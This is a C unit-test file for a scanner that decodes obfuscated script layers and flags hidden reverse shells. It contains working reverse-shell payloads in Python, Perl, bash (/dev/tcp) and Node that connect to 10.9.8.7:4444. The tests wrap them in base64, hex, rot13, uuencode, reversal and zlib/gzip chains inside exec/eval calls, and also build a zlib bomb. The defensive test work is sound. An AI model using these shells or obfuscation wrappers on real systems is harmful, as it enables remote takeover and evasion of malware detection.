/* Decoded layers of non-PHP scripts (scan/script_layers.h): every encoding
 * and chain decoded whatever the wrapper, data that decodes to no text
 * dropped, and hostile input (truncated base64, a 10 MB line, a zlib bomb,
 * deep nesting, invalid UTF-8, NUL bytes) bounded. Then the pipeline on
 * buffers: reverse shells in Python, Perl, shell and Node hidden under
 * wrappers no rule knows are found (script.decoded_layer_exec), and
 * look-alikes (an embedded icon, a certificate, a JSON config) stay quiet.
 * Every payload and wrapper is written here; the encodings are computed. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <zlib.h>

#include "pipeline_fixture.h"
#include "scan/php_fold.h"
#include "scan/script_layers.h"

/* Payloads the rules catch in clear (docs/script-rules.md). */
static const char PY_SHELL[] =
    "import socket,subprocess,os\n"
    "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
    "s.connect((\"10.9.8.7\",4444))\n"
    "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\n"
    "p=subprocess.call([\"/bin/sh\",\"-i\"])\n";
static const char PL_SHELL[] =
    "use Socket;\n$i=\"10.9.8.7\";$p=4444;\n"
    "socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\n"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");"
    "open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};\n";
static const char SH_SHELL[] = "#!/bin/bash\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1\n";
static const char JS_SHELL[] =
    "var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n"
    "var client = new net.Socket();\n"
    "client.connect(4444, '10.9.8.7', function(){ client.pipe(sh.stdin); "
    "sh.stdout.pipe(client); sh.stderr.pipe(client); });\n";

/* ---- encoders (a growing string the tests print into) ---- */

static char *b64(const void *p, size_t n)
{
	struct fbuf b = {0};
	fbuf_reset(&b, SIZE_MAX);
	fold_base64_encode(&b, p, n);
	fbuf_put(&b, "", 1);
	return (char *)b.p;
}

static char *b64s(const char *s)
{
	return b64(s, strlen(s));
}

static char *hexs(const char *s)
{
	size_t n = strlen(s);
	char *o = malloc(2 * n + 1);
	for (size_t i = 0; i < n; i++)
		sprintf(o + 2 * i, "%02x", (unsigned char)s[i]);
	return o;
}

/* zlib (wbits 15), gzip (31) or raw deflate (-15) of p */
static unsigned char *deflated(const void *p, size_t n, int wbits, size_t *outn)
{
	z_stream z = {0};
	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, wbits, 8, Z_DEFAULT_STRATEGY), Z_OK);
	size_t cap = deflateBound(&z, (uLong)n) + 64;
	unsigned char *o = malloc(cap);
	z.next_in = (unsigned char *)p;
	z.avail_in = (uInt)n;
	z.next_out = o;
	z.avail_out = (uInt)cap;
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	*outn = z.total_out;
	deflateEnd(&z);
	return o;
}

static char *fmt(const char *f, ...)
{
	va_list ap;
	va_start(ap, f);
	char *s = NULL;
	assert_true(vasprintf(&s, f, ap) >= 0);
	va_end(ap);
	return s;
}

/* ---- decoding ---- */

/* The layers of s, decoded from a buffer of exactly its size (ASan sees
 * any read past it). */
static void decode(const void *s, size_t n, struct script_layers *sl)
{
	unsigned char *b = malloc(n ? n : 1);
	memcpy(b, s, n);
	script_layers_decode(b, n, sl);
	free(b);
}

/* The layer that holds want, or NULL. */
static const struct script_layer *holding(const struct script_layers *sl, const char *want)
{
	for (size_t i = 0; i < sl->n; i++)
		if (memmem(sl->v[i].buf, sl->v[i].len, want, strlen(want)))
			return &sl->v[i];
	return NULL;
}

/* s decodes to a layer holding want, by the chain how, at layer number
 * layer (0: any). */
static void expect_layer(const char *s, const char *want, const char *how, int layer)
{
	struct script_layers sl;
	decode(s, strlen(s), &sl);
	const struct script_layer *L = holding(&sl, want);
	if (!L)
		fail_msg("no layer holds '%s' (%zu layers) in: %.120s", want, sl.n, s);
	if (how)
		assert_string_equal(L->how, how);
	if (layer)
		assert_int_equal(L->layer, layer);
	script_layers_free(&sl);
}

static void expect_none(const void *s, size_t n)
{
	struct script_layers sl;
	decode(s, n, &sl);
	if (sl.n)
		fail_msg("layer '%.80s' (%s) from data", sl.v[0].buf, sl.v[0].how);
	script_layers_free(&sl);
}

static void test_base64_whatever_consumes_it(void **state)
{
	(void)state;
	char *e = b64s(PY_SHELL);
	char *s = fmt("run = getattr(__builtins__, 'ex'+'ec')\nrun(__import__('base64').b64decode("
	              "'%s'))\n",
	              e);
	expect_layer(s, "os.dup2(s.fileno()", "base64", 1);
	free(s);
	/* a Perl q{}, a shell here-string, a JS template literal */
	s = fmt("my $c = sub { eval shift }; $c->(MIME::Base64::decode(q{%s}));\n", e);
	expect_layer(s, "os.dup2(s.fileno()", "base64", 1);
	free(s);
	s = fmt("bash <<<\"$(base64 -d <<<%s)\"\n", e);
	expect_layer(s, "socket.socket", "base64", 1);
	free(s);
	s = fmt("Function(Buffer.from(`%s`,'base64')+'')()\n", e);
	expect_layer(s, "socket.socket", "base64", 1);
	free(s);
	free(e);
}

static void test_base64_wrapped_and_split(void **state)
{
	(void)state;
	/* a heredoc body in lines of 76, indented */
	char *e = b64s(PL_SHELL);
	size_t n = strlen(e);
	char *body = calloc(1, 2 * n + 64);
	for (size_t i = 0; i < n; i += 76)
		sprintf(body + strlen(body), "    %.76s\n", e + i);
	char *s = fmt("perl - <<'EOF'\n%sEOF\n", body);
	expect_layer(s, "open(STDIN,\">&S\")", "base64", 1);
	free(s);
	/* pieces of 30 joined with + over lines, with . (Perl) and side by side */
	const char *ops[] = {" +\n  ", " . ", "\n    ", " + \\\n"};
	for (size_t k = 0; k < 4; k++) {
		body[0] = 0;
		for (size_t i = 0; i < n; i += 30)
			sprintf(body + strlen(body), "%s\"%.30s\"", i ? ops[k] : "", e + i);
		s = fmt("x = (%s)\n", body);
		expect_layer(s, "open(STDIN,\">&S\")", "base64", 1);
		free(s);
	}
	/* a literal "\n" every 60 characters */
	body[0] = 0;
	for (size_t i = 0; i < n; i += 60)
		sprintf(body + strlen(body), "%.60s\\n", e + i);
	s = fmt("d = \"%s\"\n", body);
	expect_layer(s, "open(STDIN,\">&S\")", "base64", 1);
	free(s);
	free(body);
	free(e);
}

static void test_hex_escapes_and_codes(void **state)
{
	(void)state;
	char *h = hexs(SH_SHELL);
	char *s = fmt("exec(bytes.fromhex('%s').decode())\n", h);
	expect_layer(s, "/dev/tcp/10.9.8.7", "hex", 1);
	free(s);
	s = fmt("my $x = pack('H*', \"%s\");\n", h);
	expect_layer(s, "/dev/tcp/10.9.8.7", "hex", 1);
	free(s);
	free(h);
	/* \xHH, octal, \u00HH, mixed with clear bytes, over joined literals */
	const char *cmd = "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1";
	char x[512] = "", o[512] = "", u[512] = "";
	for (const char *p = cmd; *p; p++) {
		sprintf(x + strlen(x), p - cmd == 20 ? "\" + \"\\x%02x" : "\\x%02x", *p);
		sprintf(o + strlen(o), "\\%03o", *p);
		if (*p == ' ')
			strcat(u, " ");
		else
			sprintf(u + strlen(u), "\\u%04x", *p);
	}
	s = fmt("c=$'%s'; source <(echo \"$c\")\n", o);
	expect_layer(s, "/dev/tcp/10.9.8.7", "escapes", 1);
	free(s);
	s = fmt("var c = \"%s\";\n", x);
	expect_layer(s, "/dev/tcp/10.9.8.7", "escapes", 1);
	free(s);
	s = fmt("let k = '%s'\n", u);
	expect_layer(s, "/dev/tcp/10.9.8.7", "escapes", 1);
	free(s);
	/* character codes: a list, chr() chains, fromCharCode */
	char l[1024] = "", c[2048] = "";
	for (const char *p = cmd; *p; p++) {
		sprintf(l + strlen(l), "%s%d", p == cmd ? "" : ", ", *p);
		sprintf(c + strlen(c), "%schr(%d)", p == cmd ? "" : ".", *p);
	}
	s = fmt("c = [%s]\nf(bytes(c))\n", l);
	expect_layer(s, "/dev/tcp/10.9.8.7", "charcodes", 1);
	free(s);
	s = fmt("my $c = %s;\n", c);
	expect_layer(s, "/dev/tcp/10.9.8.7", "charcodes", 1);
	free(s);
	s = fmt("w[String.fromCharCode(%s)]\n", l);
	expect_layer(s, "/dev/tcp/10.9.8.7", "charcodes", 1);
	free(s);
}

static void test_uu_rot13_reversed(void **state)
{
	(void)state;
	/* uuencoded by hand: lines of 45 bytes */
	size_t n = strlen(PL_SHELL);
	char uu[2048] = "";
	for (size_t i = 0; i < n; i += 45) {
		size_t k = n - i < 45 ? n - i : 45;
		size_t at = strlen(uu);
		uu[at++] = (char)(' ' + k);
		for (size_t j = 0; j < k; j += 3) {
			unsigned char t[3] = {0, 0, 0};
			memcpy(t, PL_SHELL + i + j, k - j < 3 ? k - j : 3);
			unsigned q[4] = {t[0] >> 2u, ((t[0] & 3u) << 4) | (t[1] >> 4u),
			                 ((t[1] & 15u) << 2) | (t[2] >> 6u), t[2] & 63u};
			for (int m = 0; m < 4; m++)
				uu[at++] = (char)(q[m] ? ' ' + q[m] : '`');
		}
		uu[at++] = '\n';
		uu[at] = 0;
	}
	char *s = fmt("my $r = sub { eval $_[0] };\nmy $c = unpack(\"u\", <<'END');\n%sEND\n", uu);
	expect_layer(s, "open(STDIN,\">&S\")", "uu", 1);
	free(s);
	/* rot13: Perl's tr, Python's codecs */
	struct fbuf r = {0};
	fbuf_reset(&r, SIZE_MAX);
	fold_rot13(&r, (const unsigned char *)PL_SHELL, strlen(PL_SHELL));
	fbuf_put(&r, "", 1);
	s = fmt("(my $c = q{%s}) =~ tr/A-Za-z/N-ZA-Mn-za-m/;\n", r.p);
	expect_layer(s, "open(STDIN,\">&S\")", "rot13", 1);
	free(s);
	/* without the idiom, rot13 text is left alone */
	s = fmt("(my $c = q{%s});\n", r.p);
	struct script_layers sl;
	decode(s, strlen(s), &sl);
	assert_null(holding(&sl, "open(STDIN"));
	script_layers_free(&sl);
	free(s);
	fbuf_free(&r);
	/* reversed: Python's [::-1] of base64, JavaScript's split/reverse/join of pieces */
	char *e = b64s(PY_SHELL);
	size_t en = strlen(e);
	for (size_t i = 0; i < en / 2; i++) {
		char t = e[i];
		e[i] = e[en - 1 - i];
		e[en - 1 - i] = t;
	}
	s = fmt("x = '%s'\nexec(base64.b64decode(x[::-1]))\n", e);
	expect_layer(s, "os.dup2(s.fileno()", "reverse>base64", 2);
	free(s);
	free(e);
	size_t jn = strlen(JS_SHELL);
	char *rev = malloc(jn + 1);
	for (size_t i = 0; i < jn; i++)
		rev[i] = JS_SHELL[jn - 1 - i];
	rev[jn] = 0;
	char pieces[2048] = "";
	for (size_t i = 0; i < jn; i += 40) {
		strcat(pieces, i ? ", '" : "'");
		for (size_t k = i; k < i + 40 && k < jn; k++) {
			if (rev[k] == '\n')
				strcat(pieces, "\\n");
			else if (rev[k] == '\'')
				strcat(pieces, "\\'");
			else
				sprintf(pieces + strlen(pieces), "%c", rev[k]);
		}
		strcat(pieces, "'");
	}
	s = fmt("var p = [%s].join('');\nglobal['ev'+'al'](p.split('').reverse().join(''));\n",
	        pieces);
	expect_layer(s, "sh.stdout.pipe(client)", "reverse", 1);
	free(s);
	free(rev);
}

static void test_compressed_chains(void **state)
{
	(void)state;
	/* base64 of zlib of base64 of the payload */
	char *in = b64s(PY_SHELL);
	size_t zn;
	unsigned char *z = deflated(in, strlen(in), 15, &zn);
	char *e = b64(z, zn);
	char *s = fmt("d = b.b64decode(z.decompress(b.b64decode('%s')))\n", e);
	expect_layer(s, "os.dup2(s.fileno()", "base64>zlib>base64", 1);
	free(s);
	free(e);
	free(z);
	free(in);
	/* gzip in a heredoc, raw deflate, zlib in \x escapes */
	z = deflated(SH_SHELL, strlen(SH_SHELL), 31, &zn);
	e = b64(z, zn);
	s = fmt("base64 -d <<'EOF' | gunzip | sh\n%s\nEOF\n", e);
	expect_layer(s, "/dev/tcp/", "base64>gzip", 1);
	free(s);
	free(e);
	free(z);
	z = deflated(JS_SHELL, strlen(JS_SHELL), -15, &zn);
	e = b64(z, zn);
	s = fmt("const k = '%s';\n", e);
	expect_layer(s, "sh.stdout.pipe(client)", "base64>deflate", 1);
	free(s);
	free(e);
	free(z);
	z = deflated(PL_SHELL, strlen(PL_SHELL), 15, &zn);
	char *x = calloc(1, 4 * zn + 1);
	for (size_t i = 0; i < zn; i++)
		sprintf(x + 4 * i, "\\x%02x", z[i]);
	s = fmt("exec(zlib.decompress(b'%s'))\n", x);
	expect_layer(s, "open(STDIN,\">&S\")", "escapes>zlib", 1);
	free(s);
	free(x);
	free(z);
	/* a layer that holds a further blob beside its code: layer 2 */
	e = b64s(SH_SHELL);
	char *mid = fmt("#!/bin/sh\necho '%s' | base64 -d > /tmp/.x; sh /tmp/.x\n", e);
	char *e2 = b64s(mid);
	s = fmt("exec(__import__('base64').b64decode('%s'))\n", e2);
	expect_layer(s, "/dev/tcp/10.9.8.7", "base64>base64", 2);
	expect_layer(s, "base64 -d > /tmp/.x", "base64", 1);
	free(s);
	free(e2);
	free(mid);
	free(e);
}

static void test_data_gives_nothing(void **state)
{
	(void)state;
	/* a PNG, a DER certificate's start, random bytes, a font: no text */
	unsigned char png[300] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n',
	                          0,    0,   0,   13,  'I',  'H',  'D',  'R'};
	for (size_t i = 16; i < sizeof(png); i++)
		png[i] = (unsigned char)(i * 37 + (i >> 3) * 11);
	char *e = b64(png, sizeof(png));
	char *s = fmt("ICON = base64.b64decode(\n    \"%s\")\n", e);
	expect_none(s, strlen(s));
	free(s);
	s = fmt("@font-face{src:url(data:font/woff2;base64,%s) format('woff2')}\n", e);
	expect_none(s, strlen(s));
	free(s);
	free(e);
	unsigned char der[600];
	der[0] = 0x30;
	der[1] = 0x82;
	for (size_t i = 2; i < sizeof(der); i++)
		der[i] = (unsigned char)((i * 2654435761u) >> 13);
	e = b64(der, sizeof(der));
	char body[1200] = "";
	for (size_t i = 0; i < strlen(e); i += 64)
		sprintf(body + strlen(body), "%.64s\n", e + i);
	s = fmt("-----BEGIN CERTIFICATE-----\n%s-----END CERTIFICATE-----\n", body);
	expect_none(s, strlen(s));
	free(s);
	free(e);
	/* long identifiers, hashes, paths, the alphabet itself, a CRC table */
	const char *code =
	    "sha256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n"
	    "ALPHA = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'\n"
	    "path = '/usr/share/javascript/jquery-ui/themes/base/jquery-ui.min.css'\n"
	    "def very_long_function_name_for_the_purpose_of_testing_runs(): pass\n"
	    "crc = [0, 1996959894, 3993919788, 2567524794, 124634137, 1886057615]\n"
	    "rgb = [255, 255, 255, 0, 0, 0, 128, 128, 128, 12, 200, 3, 4, 5, 6, 7, 8, 9]\n";
	expect_none(code, strlen(code));
}

static void test_text_data_is_a_layer_that_matches_nothing(void **state)
{
	(void)state;
	/* a JSON config and test vectors decode to text: layers, which the
	 * pipeline test below shows give no finding */
	char *e = b64s("{\"name\": \"demo\", \"version\": \"1.2.3\", \"debug\": false}");
	char *s = fmt("CONFIG = json.loads(base64.b64decode('%s'))\n", e);
	expect_layer(s, "\"version\"", "base64", 1);
	free(s);
	free(e);
}

/* ---- hostile input ---- */

static void test_truncated_and_invalid(void **state)
{
	(void)state;
	/* truncated base64: the start is decoded, nothing read past the end */
	char *e = b64s(PY_SHELL);
	size_t n = strlen(e);
	for (size_t cut = n - 7; cut < n; cut++) {
		struct script_layers sl;
		char *s = fmt("x='%.*s", (int)cut, e);
		decode(s, strlen(s), &sl);
		assert_non_null(holding(&sl, "socket.socket("));
		script_layers_free(&sl);
		free(s);
	}
	/* every prefix of a wrapper: no crash, no read past the buffer */
	char *s = fmt("exec(zlib.decompress(base64.b64decode('%s')))", e);
	for (size_t cut = 0; cut < strlen(s); cut++) {
		struct script_layers sl;
		decode(s, cut, &sl);
		script_layers_free(&sl);
	}
	free(s);
	free(e);
	/* a truncated zlib stream shows its start */
	size_t zn;
	unsigned char *z = deflated(PY_SHELL, strlen(PY_SHELL), 15, &zn);
	e = b64(z, zn - zn / 3);
	s = fmt("'%s'", e);
	expect_layer(s, "import socket", "base64>zlib", 1);
	free(s);
	free(e);
	free(z);
	/* invalid UTF-8 and NULs in what decodes: dropped when more than one
	 * byte in twenty */
	char bad[200];
	for (size_t i = 0; i < sizeof(bad); i++)
		bad[i] = i % 4 ? 'a' : (char)(i % 8 ? 0xc3 : 0);
	e = b64(bad, sizeof(bad));
	expect_none(e, strlen(e));
	free(e);
	/* a blob among NULs and invalid UTF-8 in the file is still found */
	e = b64s(SH_SHELL);
	size_t en = strlen(e);
	char *f = calloc(1, en + 64);
	memcpy(f, "\0\0\xff\xfe\xc3(\"", 7);
	memcpy(f + 7, e, en);
	memcpy(f + 7 + en, "\"\0\xc0\xaf", 4);
	struct script_layers sl;
	decode(f, en + 11, &sl);
	assert_non_null(holding(&sl, "/dev/tcp/"));
	script_layers_free(&sl);
	free(f);
	free(e);
}

static void test_bounds(void **state)
{
	(void)state;
	struct script_layers sl;
	/* a 10 MB line of base64 of text: output bounded, marked truncated */
	size_t n = 10u << 20;
	char *big = malloc(n);
	const char *unit = "ZWNobyBoZWxsbyB3b3JsZAo="; /* "echo hello world\n" */
	for (size_t i = 0; i < n; i++)
		big[i] = unit[i % 20];
	decode(big, n, &sl);
	assert_true(sl.truncated);
	assert_true(sl.out <= 4u << 20);
	size_t total = 0;
	for (size_t i = 0; i < sl.n; i++)
		total += sl.v[i].len;
	assert_true(total <= 4u << 20);
	script_layers_free(&sl);
	/* a 10 MB line of one letter and of escapes: nothing, quickly */
	memset(big, 'A', n);
	decode(big, n, &sl);
	assert_int_equal(sl.n, 0);
	script_layers_free(&sl);
	for (size_t i = 0; i + 4 <= n; i += 4)
		memcpy(big + i, "\\x41", 4);
	decode(big, n, &sl);
	assert_true(sl.out <= 4u << 20);
	script_layers_free(&sl);
	free(big);

	/* a zlib bomb: zlib of zlib of 1 GB of zeros (a few KB), base64'd */
	z_stream zs = {0};
	assert_int_equal(deflateInit(&zs, 9), Z_OK);
	size_t cap = 2u << 20;
	unsigned char *once = malloc(cap), zero[65536] = {0};
	zs.next_out = once;
	zs.avail_out = (uInt)cap;
	for (size_t i = 0; i < (1u << 30) / sizeof(zero); i++) {
		zs.next_in = zero;
		zs.avail_in = sizeof(zero);
		assert_int_equal(deflate(&zs, Z_NO_FLUSH), Z_OK);
	}
	assert_int_equal(deflate(&zs, Z_FINISH), Z_STREAM_END);
	size_t onen = zs.total_out;
	deflateEnd(&zs);
	size_t twicen;
	unsigned char *twice = deflated(once, onen, 15, &twicen);
	assert_true(twicen < 8192);
	char *e = b64(twice, twicen);
	char *s = fmt("exec(zlib.decompress(zlib.decompress(base64.b64decode('%s'))))\n", e);
	decode(s, strlen(s), &sl);
	if (sl.n)
		fail_msg("bomb: layer %s %zu '%.40s'", sl.v[0].how, sl.v[0].len, sl.v[0].buf);
	assert_true(sl.truncated);
	assert_true(sl.out <= 4u << 20);
	script_layers_free(&sl);
	free(s);
	free(e);
	free(twice);
	free(once);

	/* deep nesting: base64 twenty times; the payload is seen to the depth
	 * bound, not beyond, and the decoder says so */
	char *cur = strdup(SH_SHELL);
	for (int d = 1; d <= 20; d++) {
		char *next = b64s(cur);
		free(cur);
		cur = next;
		decode(cur, strlen(cur), &sl);
		if (d <= 6)
			assert_non_null(holding(&sl, "/dev/tcp/"));
		else if (d > 8)
			assert_null(holding(&sl, "/dev/tcp/")), assert_true(sl.truncated);
		script_layers_free(&sl);
	}
	free(cur);
	/* many blobs: at most 32 layers, the rest in the last */
	char *many = calloc(1, 200 * 80);
	for (int i = 0; i < 200; i++) {
		char line[64];
		snprintf(line, sizeof(line), "echo this is test vector number %d ok", i);
		char *b = b64s(line);
		sprintf(many + strlen(many), "t(\"%s\");\n", b);
		free(b);
	}
	decode(many, strlen(many), &sl);
	assert_int_equal(sl.n, 32);
	assert_non_null(holding(&sl, "number 199 ok"));
	script_layers_free(&sl);
	free(many);
	/* 90,000 distinct blobs (3.8 MB of output): linear, not quadratic */
	size_t mcap = 90000 * 72;
	many = malloc(mcap);
	size_t at = 0;
	for (int i = 0; i < 90000; i++) {
		char line[64];
		snprintf(line, sizeof(line), "echo this is test vector number %08d ok", i);
		char *b = b64s(line);
		at += (size_t)snprintf(many + at, mcap - at, "t('%s')\n", b);
		free(b);
	}
	clock_t t0 = clock();
	decode(many, at, &sl);
	assert_true(clock() - t0 < 10 * CLOCKS_PER_SEC);
	assert_int_equal(sl.n, 32);
	assert_non_null(holding(&sl, "number 00089999 ok"));
	script_layers_free(&sl);
	free(many);
}

/* ---- the pipeline ---- */

static int setup(void **state)
{
	(void)state;
	return pipeline_setup();
}

static int teardown(void **state)
{
	(void)state;
	pipeline_teardown();
	return 0;
}

static void expect_exec(const char *path, const char *s, const char *rule)
{
	struct finding *f = pipeline_scan(path, s, strlen(s), NULL);
	if (!f)
		fail_msg("%s: no finding", path);
	if (!strlist_contains(&f->rules, "script.decoded_layer_exec") ||
	    !strlist_contains(&f->rules, rule))
		fail_msg("%s: rules without script.decoded_layer_exec/%s", path, rule);
	assert_true(f->severity >= HS_SEV_HIGH);
	assert_true(finding_has_tag(f, "obfuscation"));
	json_t *dl = json_object_get(f->extra, "decoded_layers");
	assert_non_null(dl);
	assert_true(json_array_size(dl) >= 1);
	assert_non_null(f->evidence);
	finding_free(f);
}

static void test_pipeline_wrappers_no_rule_knows(void **state)
{
	(void)state;
	char *e = b64s(PY_SHELL);
	char *s = fmt("import base64 as _b\nrun = getattr(__builtins__, 'ex' + 'ec')\n"
	              "run(_b.b64decode('%s'))\n",
	              e);
	expect_exec("/home/u/.cache/upd.py", s, "bot.bot_revshell_python");
	free(s);
	free(e);
	char *h = hexs(PL_SHELL);
	s = fmt("my $x = pack('H*', '%s');\n&{sub { eval $_[0] }}($x);\n", h);
	expect_exec("/home/u/.cache/upd.pl", s, "bot.bot_revshell_perl");
	free(s);
	free(h);
	size_t zn;
	unsigned char *z = deflated(SH_SHELL, strlen(SH_SHELL), 31, &zn);
	e = b64(z, zn);
	s = fmt("#!/bin/sh\n. /dev/stdin <<X\n$(base64 -d <<'EOF' | gunzip\n%s\nEOF\n)\nX\n", e);
	expect_exec("/tmp/.x/run.sh", s, "bot.bot_revshell_dev_tcp");
	free(s);
	free(e);
	free(z);
	z = deflated(JS_SHELL, strlen(JS_SHELL), 15, &zn);
	e = b64(z, zn);
	s = fmt("const z = require('zl' + 'ib');\nconst k = '%s';\n"
	        "new (Object.getPrototypeOf(function(){}).constructor)"
	        "(z.inflateSync(Buffer.from(k, 'base64')).toString())();\n",
	        e);
	expect_exec("/srv/www/app/lib/x.js", s, "bot.bot_revshell_node");
	free(s);
	free(e);
	free(z);
}

static void test_pipeline_look_alikes_quiet(void **state)
{
	(void)state;
	unsigned char png[400] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};
	for (size_t i = 8; i < sizeof(png); i++)
		png[i] = (unsigned char)((i * 2654435761u) >> 11);
	char *e = b64(png, sizeof(png));
	char *s = fmt("\"\"\"Icons of the package.\"\"\"\nimport base64\n\n"
	              "LOGO = base64.b64decode(\n    '%s')\n",
	              e);
	assert_null(
	    pipeline_scan("/usr/lib/python3/dist-packages/pkg/icons.py", s, strlen(s), NULL));
	free(s);
	free(e);
	e = b64s("{\"name\": \"demo\", \"version\": \"1.2.3\", \"debug\": false, \"hosts\": []}");
	s = fmt("const cfg = JSON.parse(Buffer.from('%s', 'base64').toString());\n", e);
	assert_null(pipeline_scan("/srv/www/app/config.js", s, strlen(s), NULL));
	free(s);
	free(e);
	e = b64s("Hello, World! This is the quick brown fox jumping over the lazy dog.");
	s = fmt("use MIME::Base64;\nis(decode_base64('%s'), 'Hello, World! This is the quick brown "
	        "fox jumping over the lazy dog.', 'vector 1');\n",
	        e);
	assert_null(pipeline_scan("/usr/share/perl5/t/base64.t", s, strlen(s), NULL));
	free(s);
	free(e);
}

int main(void)
{
	const struct CMUnitTest decoding[] = {
	    cmocka_unit_test(test_base64_whatever_consumes_it),
	    cmocka_unit_test(test_base64_wrapped_and_split),
	    cmocka_unit_test(test_hex_escapes_and_codes),
	    cmocka_unit_test(test_uu_rot13_reversed),
	    cmocka_unit_test(test_compressed_chains),
	    cmocka_unit_test(test_data_gives_nothing),
	    cmocka_unit_test(test_text_data_is_a_layer_that_matches_nothing),
	    cmocka_unit_test(test_truncated_and_invalid),
	    cmocka_unit_test(test_bounds),
	};
	const struct CMUnitTest pipeline[] = {
	    cmocka_unit_test(test_pipeline_wrappers_no_rule_knows),
	    cmocka_unit_test(test_pipeline_look_alikes_quiet),
	};
	int r = cmocka_run_group_tests(decoding, NULL, NULL);
	return r | cmocka_run_group_tests(pipeline, setup, teardown);
}
